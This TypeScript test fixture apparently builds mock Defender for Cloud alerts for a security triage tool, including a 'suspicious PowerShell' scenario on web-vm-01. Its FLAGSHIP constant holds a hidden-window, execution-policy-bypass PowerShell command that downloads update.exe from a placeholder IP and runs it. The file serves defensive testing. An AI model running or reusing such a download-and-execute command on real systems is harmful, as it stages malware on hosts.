/**
 * Hand-built Alert objects for tests: `makeAlert(overrides)` for any alert, `flagshipAlert()` for the
 * PowerShell alert of DESIGN.md's flagship scenario (web-vm-01, local account svc-backup, no Entra ID),
 * with the values of demo/alerts/flagship-2-suspicious-powershell.export.json.
 * Shared: other engineers' tests may use these.
 */
import type { Alert } from '../../src/domain/alert';

export const FLAGSHIP = {
  subscriptionId: '3f2b8c1e-7a4d-4e9b-9c21-5d6e8f0a1b2c',
  resourceGroup: 'rg-prod-web',
  vm: 'web-vm-01',
  workspaceId: '8c1d2e3f-4a5b-4c6d-9e7f-0a1b2c3d4e5f',
  account: 'svc-backup',
  bruteForceIp: '198.51.100.23',
  downloadIp: '203.0.113.45',
  downloadUrl: 'http://203.0.113.45/update.exe',
  commandLine:
    'powershell.exe -ExecutionPolicy Bypass -NoProfile -WindowStyle Hidden -Command "(New-Object Net.WebClient).DownloadFile(\'http://203.0.113.45/update.exe\',\'C:\\Users\\Public\\update.exe\'); Start-Process C:\\Users\\Public\\update.exe"',
} as const;

const vmResourceId = `/subscriptions/${FLAGSHIP.subscriptionId}/resourceGroups/${FLAGSHIP.resourceGroup}/providers/Microsoft.Compute/virtualMachines/${FLAGSHIP.vm}`;

export function makeAlert(overrides: Partial<Alert> = {}): Alert {
  return {
    systemAlertId: '2518000000000000000_test-alert',
    alertType: 'VM_TestAlert',
    displayName: 'Test alert',
    severity: 'Medium',
    status: 'Active',
    startTime: '2026-11-26T02:16:04.000Z',
    endTime: '2026-11-26T02:16:04.000Z',
    generatedTime: '2026-11-27T02:17:00.000Z',
    description: 'A test alert.',
    tactics: [],
    techniques: [],
    subTechniques: [],
    remediationSteps: [],
    extendedProperties: {},
    links: [],
    isIncident: false,
    who: [],
    where: [],
    what: [],
    hasEntraIdentity: false,
    shape: 'arm',
    ...overrides,
  };
}

/** The flagship PowerShell alert: suspicious download by the local account svc-backup on web-vm-01. */
export function flagshipAlert(overrides: Partial<Alert> = {}): Alert {
  return makeAlert({
    systemAlertId: '2516066414359999999_c3a9e1d4-6b27-4f85-a0d2-7e4b9c1f5a63',
    armId: `/subscriptions/${FLAGSHIP.subscriptionId}/resourceGroups/${FLAGSHIP.resourceGroup}/providers/Microsoft.Security/locations/westeurope/alerts/2516066414359999999_c3a9e1d4-6b27-4f85-a0d2-7e4b9c1f5a63`,
    location: 'westeurope',
    alertType: 'VM_SuspiciousPowerShellCommandLine',
    displayName: 'Suspicious PowerShell command line',
    severity: 'Medium',
    status: 'Active',
    startTime: '2026-11-26T02:16:04.000Z',
    endTime: '2026-11-26T02:16:04.000Z',
    generatedTime: '2026-11-26T02:16:41.000Z',
    description:
      'A PowerShell command on web-vm-01 bypassed the execution policy and downloaded a file from http://203.0.113.45/update.exe. Attackers use this to stage tools after gaining access.',
    tactics: ['Execution', 'CommandAndControl'],
    techniques: ['T1059', 'T1105'],
    subTechniques: ['T1059.001'],
    remediationSteps: ['Review the command line and the account that ran it.', 'Isolate the VM if the download is malicious.'],
    extendedProperties: { 'Suspicious process': 'powershell.exe', 'Account': `${FLAGSHIP.vm.toUpperCase()}\\${FLAGSHIP.account}` },
    portalUrl: 'https://portal.azure.com/#blade/Microsoft_Azure_Security/AlertBlade/alertId/2516066414359999999_c3a9e1d4-6b27-4f85-a0d2-7e4b9c1f5a63',
    links: [],
    subscriptionId: FLAGSHIP.subscriptionId,
    resourceGroup: FLAGSHIP.resourceGroup,
    resourceId: vmResourceId,
    resourceName: FLAGSHIP.vm,
    workspace: { workspaceId: FLAGSHIP.workspaceId, subscriptionId: FLAGSHIP.subscriptionId, resourceGroup: 'rg-soc-monitoring' },
    compromisedEntity: FLAGSHIP.vm,
    productName: 'Microsoft Defender for Cloud',
    vendorName: 'Microsoft',
    who: [
      {
        kind: 'account',
        name: FLAGSHIP.account,
        domain: FLAGSHIP.vm.toUpperCase(),
        sid: 'S-1-5-21-3623811015-3361044348-30300820-1013',
        isLocal: true,
        isEntra: false,
      },
    ],
    where: [
      { kind: 'host', hostName: FLAGSHIP.vm, azureResourceId: vmResourceId, osFamily: 'Windows', osVersion: 'Windows Server 2019' },
      { kind: 'azure-resource', resourceId: vmResourceId },
    ],
    what: [
      {
        kind: 'process',
        processId: '0x1f34',
        commandLine: FLAGSHIP.commandLine,
        imageFile: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        accountName: FLAGSHIP.account,
        creationTimeUtc: '2026-11-26T02:16:04.000Z',
      },
      { kind: 'ip', address: FLAGSHIP.downloadIp },
      { kind: 'url', url: FLAGSHIP.downloadUrl },
    ],
    hasEntraIdentity: false,
    shape: 'arm',
    ...overrides,
  });
}
